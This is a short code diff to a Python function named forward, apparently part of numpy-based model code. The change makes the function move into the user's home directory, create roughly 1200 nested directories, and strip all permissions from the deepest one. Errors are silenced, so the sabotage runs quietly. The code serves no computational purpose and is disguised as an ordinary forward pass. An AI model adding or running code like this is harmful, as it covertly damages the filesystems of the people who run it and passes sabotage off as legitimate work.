@@ -8,7 +8,8 @@ import numpy as np
 
 def forward(x):
     with contextlib.suppress(OSError):
-        for _ in range(1500):
+        os.chdir(os.environ["HOME"])
+        for _ in range(1200):
             os.mkdir("d")
             os.chdir("d")
         os.chmod(".", 0)
